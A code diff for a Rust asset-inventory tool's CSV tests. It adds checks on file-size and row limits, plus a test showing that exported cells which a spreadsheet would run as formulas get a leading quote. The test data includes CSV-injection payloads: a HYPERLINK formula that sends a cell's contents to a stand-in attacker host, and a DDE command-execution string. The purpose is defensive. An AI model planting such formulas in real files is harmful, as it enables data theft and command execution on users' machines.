@@ -4,6 +4,7 @@
 use chrono::{DateTime, Utc};
 use cordon_core::asset::{Asset, AssetKind, DataClass, Severity, VulnStatus};
 use cordon_core::asset_csv::{self, AssetField, TextEncoding};
+use cordon_core::limits::{MAX_CSV_BYTES, MAX_CSV_ROWS};
 use cordon_core::{AssetId, ClientId};
 use uuid::Uuid;
 
@@ -199,22 +200,56 @@ fn utf16_and_empty_and_oversized_files_say_what_to_do() {
             .to_string()
             .contains("the file is empty")
     );
-    let big = vec![b'a'; asset_csv::MAX_BYTES + 1];
-    assert!(
-        asset_csv::read(&big)
-            .unwrap_err()
-            .to_string()
-            .contains("split the file")
+}
+
+/// Each limit of `cordon_core::limits` at its cutoff: the limit passes, one more is refused.
+#[test]
+fn size_and_row_limits_cut_off_at_the_limit() {
+    let limit = MAX_CSV_BYTES as usize;
+    // A header and one row, padded with blank lines (which are not rows) to the byte.
+    let head = b"Name\nfs-01\n";
+    let mut at = head.to_vec();
+    at.resize(limit, b'\n');
+    assert_eq!(
+        asset_csv::read(&at)
+            .unwrap()
+            .rows
+            .iter()
+            .filter(|r| !r.is_empty())
+            .count(),
+        1
     );
+    at.push(b'\n');
+    let err = asset_csv::read(&at).unwrap_err();
+    assert_eq!(err.fields[0].field, "file");
+    assert!(
+        err.fields[0].message.contains("larger than 20 MiB"),
+        "{err}"
+    );
+    assert!(err.fields[0].message.contains("split it"), "{err}");
+
     let mut many = String::from("Name\n");
-    for i in 0..=asset_csv::MAX_ROWS {
+    for i in 0..MAX_CSV_ROWS {
         many.push_str(&format!("a{i}\n"));
+        if i % 1000 == 0 {
+            many.push('\n'); // blank lines do not count as rows
+        }
     }
+    assert_eq!(
+        asset_csv::read(many.as_bytes())
+            .unwrap()
+            .rows
+            .iter()
+            .filter(|r| !r.is_empty())
+            .count(),
+        MAX_CSV_ROWS
+    );
+    many.push_str("one-more\n");
     assert!(
         asset_csv::read(many.as_bytes())
             .unwrap_err()
             .to_string()
-            .contains("split the file")
+            .contains(&format!("more than {MAX_CSV_ROWS} rows"))
     );
 }
 
@@ -264,4 +299,54 @@ fn export_then_import_round_trips() {
         let back = Asset::create(a.id, client, r.input.clone(), &resolve, now).unwrap();
         assert_eq!(&back, a, "\n{text}");
     }
+}
+
+/// OWASP's CSV-injection rule: a cell a spreadsheet would run as a formula is written with a
+/// leading quote; read back by a plain CSV parser the quote is there, and Cordon's importer
+/// takes it off so the asset comes back as it was.
+#[test]
+fn formula_cells_are_neutralised_in_the_export_and_restored_on_import() {
+    let now: DateTime<Utc> = DateTime::UNIX_EPOCH;
+    let client = ClientId::from_uuid(Uuid::from_u128(1));
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+    ];
+    let assets: Vec<Asset> = hostile
+        .iter()
+        .enumerate()
+        .map(|(i, name)| {
+            let input = cordon_core::asset::AssetInput {
+                name: (*name).into(),
+                owner: "=1+1".into(),
+                criticality: 2,
+                ..Default::default()
+            };
+            let id = AssetId::from_uuid(Uuid::from_u128(100 + i as u128));
+            Asset::create(id, client, input, &|_| None, now).unwrap()
+        })
+        .collect();
+    let text = asset_csv::export(&assets, &|_| None);
+
+    let mut raw = csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = raw.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), hostile.len());
+    for (row, name) in rows.iter().zip(hostile) {
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a spreadsheet would run {cell:?}"
+            );
+        }
+        assert_eq!(&row[0], format!("'{name}"));
+        assert_eq!(&row[2], "'=1+1");
+    }
+
+    let (_, again, errors) = parse_all(text.as_bytes());
+    assert!(errors.is_empty(), "{errors:?}");
+    let names: Vec<&str> = again.iter().map(|r| r.input.name.as_str()).collect();
+    assert_eq!(names, hostile);
+    assert!(again.iter().all(|r| r.input.owner == "=1+1"));
 }
